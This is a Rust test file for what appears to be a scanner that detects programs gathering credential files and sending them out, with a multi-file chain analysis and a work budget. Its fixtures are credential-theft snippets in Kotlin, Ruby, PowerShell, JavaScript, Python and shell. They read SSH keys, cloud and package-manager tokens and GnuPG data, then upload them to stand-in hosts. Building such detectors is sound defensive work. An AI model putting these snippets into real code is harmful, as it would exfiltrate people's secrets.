use super::*;

fn rules(text: &str) -> Vec<Rule> {
    let files = [GatheredFile { path: "a.py", text, is_program: true }];
    gathered(&files, &mut GATHERED_LIMITS.clone())
        .into_iter()
        .map(|found| found.chain.rule)
        .collect()
}

fn found(files: &[(&str, &str)]) -> Vec<(usize, u32)> {
    let data = [".json", ".txt", ".yml", ".psd1"];
    let files: Vec<_> = files
        .iter()
        .map(|(path, text)| GatheredFile {
            path,
            text,
            is_program: !data.iter().any(|end| path.ends_with(end)),
        })
        .collect();
    let mut limits = GATHERED_LIMITS;
    let found = gathered(&files, &mut limits);
    assert!(!limits.exhausted);
    found.into_iter().map(|found| (found.file, found.chain.last_line())).collect()
}

#[test]
fn keys_of_several_services_and_a_host_are_enough_in_any_language() {
    for (path, text) in [
        (
            "a.kt",
            "val home = System.getProperty(\"user.home\")\nval all = listOf(\".ssh/id_rsa\", \".netrc\", \".kube/config\").map { File(home, it).readText() }\nval c = URL(\"https://in.example.invalid/x\").openConnection() as HttpURLConnection\nc.requestMethod = \"POST\"\nc.outputStream.write(all.joinToString().toByteArray())\n",
        ),
        (
            "a.rb",
            "SINK = URI('http://203.0.113.9/x')\nall = %w[.aws/credentials .npmrc .gem/credentials].map { |f| File.read(File.join(Dir.home, f)) }\nputs 1\nputs 2\nputs 3\nputs 4\nputs 5\nputs 6\nputs 7\nNet::HTTP.post(SINK, all.to_json)\n",
        ),
        (
            "a.ps1",
            "$all = '.ssh\\id_rsa', '.docker\\config.json', '.azure\\accessTokens.json' | % { Get-Content \"$env:USERPROFILE\\$_\" }\n$w = New-Object Net.WebClient\n$w.UploadString('https://in.example.invalid', $all)\n",
        ),
        (
            "a.js",
            "const at = ['.ssh', '.gnupg', '.password-store'].map((d) => path.join(os.homedir(), d));\nconst z = pack(at.flatMap(readTree));\nclient.request({ host: 'in.example.invalid', method: 'POST' }).end(z);\n",
        ),
    ] {
        assert_eq!(found(&[(path, text)]).len(), 1, "{path}");
    }
}

#[test]
fn one_program_gathers_and_another_sends() {
    let keys = "import os, tarfile\nt = tarfile.open('/tmp/.x', 'w')\nfor p in ('~/.ssh', '~/.gnupg', '~/.pgpass'):\n    t.add(os.path.expanduser(p))\n";
    let send = "curl -fsS -T /tmp/.x \"https://in.example.invalid/x\"\n";
    let main = "python3 lib/take.py\nsh lib/give.sh\n";
    let files = [("main.sh", main), ("lib/take.py", keys), ("lib/give.sh", send)];
    assert_eq!(found(&files), [(2, 1)]);
    assert_eq!(found(&[("lib/take.py", keys), ("lib/give.sh", send)]), [], "nothing joins them");
    let config = "{\"places\": [\".ssh/id_rsa\", \".aws/credentials\", \".npmrc\"],\n \"sink\": \"https://in.example.invalid/x\"}";
    let load = "const { places, sink } = require('./conf.json');\nconst all = places.map((p) => fs.readFileSync(os.homedir() + '/' + p));\nrequest(sink, { method: 'POST', body: all });\n";
    assert_eq!(found(&[("load.js", load), ("conf.json", config)]), [(0, 3)]);
}

#[test]
fn honest_programs_that_know_where_keys_lie_send_nothing_or_ask_where() {
    for (path, text) in [
        // A guard that keeps an agent from them, and tells its maker what it refused.
        (
            "guard.py",
            "import json, sys, requests\nfrom pathlib import Path\nDENIED = [\n    Path.home() / '.ssh',\n    Path.home() / '.aws/credentials',\n    Path.home() / '.gnupg',\n    Path.home() / '.netrc',\n]\ncall = json.load(sys.stdin)\nrequests.post('https://api.vendor.example/audit', json={'tool': call['tool']})\n",
        ),
        // A backup to a place that the user names.
        (
            "backup.sh",
            "tar czf - ~/.ssh ~/.gnupg ~/.aws/credentials ~/.netrc | gpg -c > \"$1\"\ncurl -fsS -T \"$1\" \"$BACKUP_URL\"\n",
        ),
        // A check of rights that sends nothing.
        (
            "doctor.rb",
            "%w[.ssh/id_rsa .netrc .npmrc .kube/config].each { |f| puts f if File.stat(File.join(Dir.home, f)).mode & 0o77 != 0 }\nputs Net::HTTP.get(URI('https://status.vendor.example'))\n",
        ),
        // Two services that work together.
        (
            "push.py",
            "import os, requests\nk = open(os.path.expanduser('~/.kube/config')).read()\nd = open(os.path.expanduser('~/.docker/config.json')).read()\nrequests.post('https://hooks.vendor.example/done', json={'text': 'pushed'})\n",
        ),
        (
            "docs.py",
            "\"\"\"Never print ~/.ssh/id_rsa, ~/.aws/credentials or ~/.netrc.\n\nRead home with open().\n\"\"\"\nimport requests\nrequests.post('https://api.vendor.example', json={})\n",
        ),
    ] {
        assert_eq!(found(&[(path, text)]), [], "{path}");
    }
}

#[test]
fn many_files_that_name_keys_and_send_cost_each_a_few_readings() {
    let source = "p = ['~/.ssh', '~/.gnupg', '~/.pgpass']\nt = open(p).read()\n";
    let sender = format!("{}requests.post(SINK, data=t)\n", "x.post(y)\n".repeat(200));
    let texts: Vec<_> = (0..150)
        .flat_map(|at| {
            [
                (format!("lib/take-{at}.py"), source.to_owned()),
                (format!("lib/give_{at}.py"), sender.clone()),
            ]
        })
        .chain([(
            "main.sh".to_owned(),
            "python3 lib/take-3.py\npython3 lib/give_7.py\n".to_owned(),
        )])
        .chain([("lib/sink.py".to_owned(), "SINK = 'https://in.example.invalid/x'\n".to_owned())])
        .collect();
    let files: Vec<_> =
        texts.iter().map(|(path, text)| GatheredFile { path, text, is_program: true }).collect();
    let mut limits = GATHERED_LIMITS;
    let found = gathered(&files, &mut limits);
    assert_eq!(found.iter().map(|found| found.file).collect::<Vec<_>>(), [15]);
    assert!(!limits.exhausted);
    let all: usize = texts.iter().map(|(_, text)| text.len()).sum();
    let used = GATHERED_LIMITS.work - limits.work;
    assert!(used < all * 24, "{used} bytes of work for {all}");
    let mut few = Limits { work: all, ..GATHERED_LIMITS };
    assert!(gathered(&files, &mut few).is_empty());
    assert!(few.exhausted, "what is left out is told");
}

#[test]
fn what_is_read_to_be_counted_is_in_doubt_and_what_is_handed_on_is_not() {
    let head = "import re, requests\nfrom pathlib import Path\nP = [Path.home() / '.ssh/id_rsa', Path.home() / '.netrc', Path.home() / '.npmrc']\nhits = 0\nout = []\n";
    let tail =
        "requests.post('https://api.vendor.example/report', json={'hits': hits, 'out': out})\n";
    for body in [
        "for p in P:\n    text = p.read_text()\n    hits += len(re.findall('KEY', text))\n",
        "for p in P:\n    with open(p) as f:\n        text = f.read()\n    if re.search('BEGIN', text):\n        hits += 1\n",
        "for p in P:\n    hits += len(p.read_bytes())\n",
    ] {
        assert_eq!(rules(&format!("{head}{body}{tail}")), [Rule::GatheredInDoubt], "{body}");
    }
    for body in [
        "for p in P:\n    text = p.read_text()\n    hits += len(text)\n    out.append(text)\n",
        "for p in P:\n    out.append(p.read_text())\n",
        "for p in P:\n    with open(p) as f:\n        out += f.readlines()\n",
        "out = {p.name: p.read_text() for p in P}\nhits = len(out)\n",
    ] {
        assert_eq!(rules(&format!("{head}{body}{tail}")), [Rule::Gathered], "{body}");
    }
    let told = head.replace("'.npmrc']", "'.npmrc']  # never the sensitive ones");
    let body = "out = [p.read_text() for p in P]\n";
    assert_eq!(rules(&format!("{told}{body}{tail}")), [Rule::Gathered], "a comment keeps nobody");
}
